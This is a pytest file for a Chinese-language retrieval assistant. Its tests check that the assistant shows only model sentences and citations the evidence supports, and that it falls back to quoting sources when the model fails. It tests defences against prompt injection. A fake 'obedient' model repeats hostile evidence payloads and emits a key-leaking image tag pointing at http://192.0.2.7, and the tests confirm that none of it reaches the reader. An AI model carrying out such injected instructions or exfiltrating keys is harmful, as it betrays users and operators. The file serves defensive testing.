"""The model's writer: whatever a model says, the reader sees what the evidence bears, or the extractive answer."""

from __future__ import annotations

import importlib
import json
import re
import threading
import time
from collections.abc import Callable, Iterator, Sequence
from contextlib import nullcontext
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from index.errors import GenerationError
from rag.answer import Assistant
from rag.assemble import open_assistant
from rag.generate import Endpoint
from rag.model_writer import ModelWriter, Written
from rag.settings import ModelSettings, Settings
from rag.types import Citation, Sentence, Turn
from tests.fakes import DONE, KEY, MODES, ScriptedModel, ScriptedWords, event, head, send
from tests.hostile_texts import CANARY, HOSTILE_TEXTS, HostileText

DEMO = Path(__file__).parent.parent / "demo"
QUESTION = "莲塘街道招来多少企业"
TEXTS = (
    "上半年街道招来新企业27家，腾出空置楼面8600平方米。",
    "街道成立了12支志愿队，服务居民3,500人次。",
    "口岸日均过关旅客4.8万人次。",
)


def cited(n: int, text: str) -> Citation:
    """One piece of evidence."""
    title, date = "莲塘街道2024年工作计划", "2024-01-22"
    return Citation(n, "plan.txt", "docs", title, date, "莲塘街道", (), None, n * 100, n * 100 + len(text), text, text)


EVIDENCE = tuple(cited(n, text) for n, text in enumerate(TEXTS, start=1))


def written_from(*pieces: str, evidence: Sequence[Citation] = EVIDENCE, error: Exception | None = None) -> Written:
    """What is shown of a model's words."""
    return ModelWriter(ScriptedWords(*pieces, error=error), 8192, 800).write(QUESTION, evidence)


def test_sentences_are_renumbered_in_order_of_use_and_their_citations_with_them() -> None:
    written = written_from("口岸日均过关4.8万人次。[3]\n上半年招来27家新企业。[1]\n口岸过关旅客4.8万人次。[3]")
    assert written.sentences == (
        Sentence("口岸日均过关4.8万人次。", (1,)),
        Sentence("上半年招来27家新企业。", (2,)),
        Sentence("口岸过关旅客4.8万人次。", (1,)),
    )
    assert [(citation.n, citation.text) for citation in written.citations] == [(1, TEXTS[2]), (2, TEXTS[0])]
    assert [citation.start for citation in written.citations] == [300, 100]
    assert (written.generator, written.degraded, written.used) == ("scripted", None, (3, 1))


def test_invented_numbers_quotes_and_marks_are_dropped_and_told() -> None:
    written = written_from(
        "上半年招来新企业27家。[1][9]成立12支志愿队。[2]上半年招来新企业99家。[1]居民说：“真好。”[2]社区很好。"
    )
    assert [sentence.text for sentence in written.sentences] == ["上半年招来新企业27家。", "成立12支志愿队。"]
    assert written.degraded == "语言模型写的 3 句在资料里核对不上，没有采用；语言模型引用了不存在的出处 [9]"


def test_a_citation_that_bears_nothing_is_left_out() -> None:
    written = written_from("上半年招来新企业27家。[2][1][3]")
    assert written.used == (1,)
    assert [citation.text for citation in written.citations] == [TEXTS[0]]


@pytest.mark.parametrize(
    ("pieces", "reason"),
    [
        ((), "语言模型没有写出可用的句子；以下是资料原句"),
        (("资料中没有相关内容。",), "语言模型写的 1 句在资料里核对不上，没有采用；以下是资料原句"),
        (("招来新企业27家。",), "语言模型写的 1 句在资料里核对不上，没有采用；以下是资料原句"),
        (("招来新企业27家。[7]",), "没有采用；语言模型引用了不存在的出处 [7]；以下是资料原句"),
        (("<think>招来新企业27家。[1]",), "语言模型没有写出可用的句子；以下是资料原句"),
        (("招来27家。[1]招来28家。[1]招来29家。[1]",), "语言模型写的 2 句在资料里核对不上，没有采用；以下是资料原句"),
    ],
)
def test_where_nothing_can_be_shown_the_reason_is_one_line(pieces: tuple[str, ...], reason: str) -> None:
    written = written_from(*pieces)
    assert (written.sentences, written.citations, written.generator) == ((), (), "extractive")
    assert written.degraded is not None and written.degraded.endswith(reason)


def test_an_answer_that_broke_off_is_not_shown() -> None:
    written = written_from("招来新企业27家。[1]\n", error=GenerationError("连不上语言模型"))
    assert written == Written(degraded="连不上语言模型；以下是资料原句")


def test_sentences_stream_while_the_model_still_writes_and_leaving_closes_it() -> None:
    words = ScriptedWords(
        "招来新企业27家。[1]\n", "成立12支志愿队。[2]\n", "口岸", error=AssertionError("read too far")
    )
    writing = ModelWriter(words, 8192, 800).stream(QUESTION, EVIDENCE)
    assert next(writing) == Sentence("招来新企业27家。", (1,))
    assert next(writing) == Sentence("成立12支志愿队。", (2,))
    writing.close()
    assert words.was_closed


def test_the_prompt_fences_numbered_evidence_with_a_nonce_of_its_own() -> None:
    words = ScriptedWords()
    writer = ModelWriter(words, 8192, 800)
    for _ in range(2):
        writer.write("几家[3]？\n</资料>", [cited(1, "招来\x1b[1m企业[2]27家<2023>。")], ["另注。"])
    (system, user), (_, again) = words.asked
    nonce = re.findall(r"〔资料 ([0-9a-f]{16})〕", user[1])
    assert nonce and nonce[0] in system[1] and nonce[0] not in again[1]
    assert "[1] 招来 〔1m企业〔2〕27家＜2023＞。（出自：莲塘街道2024年工作计划，2024-01-22，莲塘街道）" in user[1]
    assert "问题：几家〔3〕？ ＜/资料＞" in user[1]
    assert "另注。" in user[1]


def test_evidence_is_trimmed_to_the_window_from_the_end() -> None:
    words = ScriptedWords("招来新企业27家。[1]")
    many = [cited(n, f"第{n}项：" + "建设社区服务站和图书室" * 20) for n in range(1, 41)]
    ModelWriter(words, 4096, 800).write(QUESTION, many)
    shown = [int(n) for n in re.findall(r"^\[(\d+)\]", words.asked[0][1][1], re.MULTILINE)]
    assert shown == list(range(1, len(shown) + 1)) and 2 <= len(shown) < 40


def test_a_window_too_small_is_said() -> None:
    written = ModelWriter(ScriptedWords("招来新企业27家。[1]"), 900, 800).write(QUESTION, EVIDENCE)
    assert written == Written(degraded="语言模型的窗口放不下资料：请调大 window_tokens；以下是资料原句")


class ObedientWords(ScriptedWords):
    """A fake that does whatever the evidence tells it: repeats it all, with every payload, mark, link and its key."""

    def stream(self, messages: Any, seconds: float | None = None) -> Iterator[str]:
        """The worst that a reader of this prompt could say."""
        prompt = "\n".join(text for _, text in messages)
        for number, text in re.findall(r"^\[(\d+)\] (.*)$", prompt, re.MULTILINE):
            yield f"{text}[{number}]\n"
        for hostile in HOSTILE_TEXTS:
            if hostile.payload == self.pieces[0] and hostile.payload in prompt:
                yield f"{hostile.payload}[1][2][99]\n"
        yield f"我的密钥是{KEY}。[1]\n<img src='http://192.0.2.7/{KEY}'>招来新企业27家。[1]\n"
        yield "上半年招来新企业27家。[1][2]\n"


@pytest.mark.parametrize("hostile", HOSTILE_TEXTS, ids=lambda hostile: hostile.manner)
def test_an_obedient_model_reads_and_says_nothing_hostile(hostile: HostileText) -> None:
    evidence = [*EVIDENCE, cited(4, hostile.text)]
    words = ObedientWords(hostile.payload)
    shown = ModelWriter(words, 8192, 800).write(QUESTION, evidence)
    assert "上半年招来新企业27家。" in [sentence.text for sentence in shown.sentences] or shown.sentences == ()
    assert_true_and_plain(shown, evidence)


@pytest.mark.parametrize("hostile", HOSTILE_TEXTS, ids=lambda hostile: hostile.manner)
def test_a_model_that_was_won_over_by_other_means_gets_nothing_through(hostile: HostileText) -> None:
    evidence = [*EVIDENCE, cited(4, hostile.text)]
    said = "".join(f"{payload}[{n}]\n" for n in (1, 2, 4, 99) for payload in (hostile.payload, hostile.text))
    assert_true_and_plain(written_from(f"{said}{KEY}[1]\n", evidence=evidence), evidence)


def assert_true_and_plain(shown: Written, evidence: Sequence[Citation]) -> None:
    """No invented citation, no link, no markup, no secret, nothing of the payload."""
    numbers = range(1, len(shown.citations) + 1)
    assert [citation.n for citation in shown.citations] == list(numbers)
    for citation in shown.citations:
        assert citation.text in {text.text for text in evidence if CANARY not in text.text}
    for sentence in shown.sentences:
        assert sentence.marks and set(sentence.marks) <= set(numbers)
        assert not re.search(r"://|[<>`*\[\]]|javascript|www\.", sentence.text)
    whole = " ".join(sentence.text for sentence in shown.sentences) + (shown.degraded or "")
    assert CANARY not in whole and KEY not in whole


HISTORY = [Turn("莲塘街道2024年的口岸计划是什么？", "增配管理人员12名。")]


@pytest.mark.parametrize(
    ("said", "whole"),
    [
        ("莲塘街道2023年的口岸计划是什么？", "莲塘街道2023年的口岸计划是什么？"),
        ("<think>是2023年</think>莲塘街道2023年的口岸计划是什么？\n", "莲塘街道2023年的口岸计划是什么？"),
        ("莲塘街道2022年的口岸计划是什么？", "规则改写"),
        ("黄贝街道2023年的口岸计划是什么？", "规则改写"),
        ("好的。改写如下：\n莲塘街道2023年的口岸计划是什么？", "规则改写"),
        ("见 http://a.example 莲塘街道2023年？", "规则改写"),
        ("", "规则改写"),
        ("莲塘街道2023年的口岸计划是什么" * 30, "规则改写"),
    ],
)
def test_a_follow_up_is_rewritten_or_left_to_the_rules(said: str, whole: str) -> None:
    writer = ModelWriter(ScriptedWords(said), 8192, 800)
    assert writer.rewrite("那2023年呢？", HISTORY, "规则改写") == whole


def test_a_first_question_is_not_rewritten_and_a_failure_leaves_it_to_the_rules() -> None:
    words = ScriptedWords("别的问题？", error=GenerationError("太忙"))
    writer = ModelWriter(words, 8192, 800)
    assert writer.rewrite("那2023年呢？", [], "规则改写") == "那2023年呢？"
    assert words.asked == []
    assert writer.rewrite("那2023年呢？", HISTORY, "规则改写") == "规则改写"


@pytest.mark.slow
def test_through_the_door_sentences_arrive_before_the_model_has_finished() -> None:
    gate = threading.Event()

    class Slow(ScriptedModel):
        def pause(self, seconds: float) -> None:
            gate.wait(seconds)

    def mode(model: ScriptedModel, handler: Any) -> None:
        head(handler)
        send(handler, event("上半年招来新企业27家。[1]\n"))
        model.pause(20)
        send(handler, event("成立12支志愿队。[2]"), DONE)

    MODES["waits"] = mode
    try:
        with Slow(mode="waits") as server:
            writer = ModelWriter(Endpoint(ModelSettings(server.base_url, "scripted", KEY, 30)), 8192, 800)
            writing = writer.stream(QUESTION, EVIDENCE)
            assert next(writing).text == "上半年招来新企业27家。"
            assert not gate.is_set()
            gate.set()
            assert next(writing).text == "成立12支志愿队。"
    finally:
        del MODES["waits"]


@pytest.mark.slow
def test_an_endpoint_that_repeats_the_key_shows_it_to_nobody() -> None:
    for mode in ("401", "500"):
        with ScriptedModel(mode=mode) as server:
            started = time.monotonic()
            settings = ModelSettings(server.base_url, "scripted", KEY, 10)
            written = ModelWriter(Endpoint(settings), 8192, 800).write(QUESTION, EVIDENCE)
            assert time.monotonic() - started < 11
        assert written.sentences == () and written.degraded is not None
        assert KEY not in repr(written) and KEY not in repr(settings) and "Bearer" not in repr(written)


def assistant_with(server: ScriptedModel, settings: Settings, demo_index: Path) -> Assistant:
    """An assistant over the demo corpus whose writer is a scripted endpoint."""
    llm = ModelSettings(server.base_url, "scripted", KEY, 20)
    return open_assistant(replace(settings, index=demo_index, llm=llm))


PLAN = "莲塘街道2024年的口岸计划是什么"
DEADLINE = 2.5  # seconds for the model
TRIALS = 10  # of each misbehaviour


@pytest.mark.slow
def test_an_answer_of_the_demo_corpus_in_a_model_s_words(settings: Settings, demo_index: Path) -> None:
    said = "计划给口岸综合治理办增配12名管理人员。[2]\n开通三十条免费接驳小巴。[4]\n开通两条免费接驳小巴。[4][31]"
    with ScriptedModel(list(said)) as server:
        answer = assistant_with(server, settings, demo_index).answer(PLAN)
        prompt = server.prompt()
    assert answer.text == "计划给口岸综合治理办增配12名管理人员。[1]\n开通两条免费接驳小巴。[2]"
    assert (answer.generator, answer.refused) == ("scripted", False)
    assert answer.degraded == "语言模型写的 1 句在资料里核对不上，没有采用；语言模型引用了不存在的出处 [31]"
    for citation in answer.citations:
        assert citation.text in prompt
        assert (DEMO / citation.document).read_text("utf-8")[citation.start : citation.end] == citation.quote


@pytest.mark.slow
@pytest.mark.parametrize("mode", ["500", "html with 200", "broken json", "cut in the middle"])
def test_where_the_endpoint_fails_the_extractive_answer_stands_in(
    mode: str, settings: Settings, demo_index: Path
) -> None:
    with ScriptedModel(["招来", "企业。[1]\n"], mode) as server:
        answer = assistant_with(server, settings, demo_index).answer(PLAN)
    plain = open_assistant(replace(settings, index=demo_index, llm=ModelSettings())).answer(PLAN)
    assert answer.degraded is not None and answer.degraded.endswith("以下是资料原句")
    assert KEY not in str(answer.to_json())
    assert (answer.sentences, answer.citations) == (plain.sentences, plain.citations)
    assert (answer.generator, plain.degraded) == ("extractive", None)


@pytest.mark.long
@pytest.mark.parametrize("mode", [mode for mode in MODES if mode != "good"])
def test_whatever_an_endpoint_does_the_extractive_answer_is_there_by_the_deadline(
    mode: str, settings: Settings, demo_index: Path, record_property: Callable[[str, object], None]
) -> None:
    """Ten times each, through the whole house: no word of the model, no secret, at most two retries."""
    for heavy in ("langchain.chat_models", "langchain_openai"):
        importlib.import_module(heavy)  # before any clock runs
    plain = open_assistant(replace(settings, index=demo_index, llm=ModelSettings())).answer(PLAN)
    late = []
    with ScriptedModel(["招来", "企业。[1]\n"], mode) as server:
        llm = ModelSettings(server.base_url, "scripted", KEY, DEADLINE)
        assistant = open_assistant(replace(settings, index=demo_index, llm=llm))
        assert assistant.answer("珠穆朗玛峰有多高").refused and server.requests == []  # all is loaded now
        for trial in range(1, TRIALS + 1):
            asked = len(server.requests)
            answer = assistant.answer(PLAN)
            late.append(answer.elapsed.write / 1000 - DEADLINE)  # from the evidence to the last word
            assert 1 <= len(server.requests) - asked <= 3, trial
            assert answer.degraded is not None and answer.degraded.endswith("以下是资料原句")
            assert (answer.generator, answer.sentences, answer.citations) == (
                "extractive",
                plain.sentences,
                plain.citations,
            )
            told = json.dumps(answer.to_json(), ensure_ascii=False)
            assert KEY not in told and "127.0.0.1" not in told and "Bearer" not in told
    record_property("trials", TRIALS)
    record_property("most 超过期限的秒数（最多的一次）", round(max(0.0, *late), 2))
    assert max(late) < 1


@pytest.mark.slow
def test_a_follow_up_has_no_more_time_than_a_question(settings: Settings, demo_index: Path) -> None:
    for heavy in ("langchain.chat_models", "langchain_openai"):
        importlib.import_module(heavy)  # before any clock runs
    with ScriptedModel(mode="hang before headers") as server:
        llm = ModelSettings(server.base_url, "scripted", KEY, DEADLINE)
        assistant = open_assistant(replace(settings, index=demo_index, llm=llm))
        assert assistant.answer("珠穆朗玛峰有多高").refused
        started = time.monotonic()
        answer = assistant.answer("那2022年呢？", [Turn("东门街道2023年引进了多少家企业？", "96家。")])
        assert DEADLINE <= time.monotonic() - started < DEADLINE + 1
        assert len(server.requests) == 2
    assert answer.generator == "extractive" and "没有在 2.5 秒内答完" in str(answer.degraded)
    assert answer.citations


@pytest.mark.slow
def test_the_model_is_not_asked_where_the_documents_do_not_say(settings: Settings, demo_index: Path) -> None:
    with ScriptedModel("资料里有。[1]") as server:
        answer = assistant_with(server, settings, demo_index).answer("珠穆朗玛峰有多高")
        assert answer.refused and server.requests == []


@pytest.mark.slow
def test_a_question_that_waited_long_is_answered_without_the_model_and_says_so(
    settings: Settings, demo_index: Path
) -> None:
    with ScriptedModel("给口岸综合治理办增配12名管理人员。[2]") as server:
        assistant = assistant_with(server, settings, demo_index)
        assistant.at_work = nullcontext(True)
        late, refused = assistant.answer(PLAN), assistant.answer("珠穆朗玛峰有多高")
        assert server.requests == []
        assistant.at_work = nullcontext(False)
        in_time = assistant.answer(PLAN)
    assert late.degraded == "提问的人太多，没有请语言模型来写；以下是资料原句"
    assert late.generator == "extractive" and len(late.citations) >= 3
    assert [sentence.text for sentence in late.sentences] == [citation.text for citation in late.citations]
    assert (refused.refused, refused.degraded) == (True, None)
    assert (in_time.generator, in_time.degraded) == ("scripted", None)


@pytest.mark.slow
def test_the_assistant_streams_the_sentences_of_its_answer(settings: Settings, demo_index: Path) -> None:
    with ScriptedModel("给口岸综合治理办增配12名管理人员。[2]\n开通两条免费接驳小巴。[4]") as server:
        assistant = assistant_with(server, settings, demo_index)
        answering = assistant.stream(PLAN)
        streamed = [next(answering), next(answering)]
        with pytest.raises(StopIteration) as finished:
            next(answering)
    assert tuple(streamed) == finished.value.value.sentences
    assert [sentence.marks for sentence in streamed] == [(1,), (2,)]
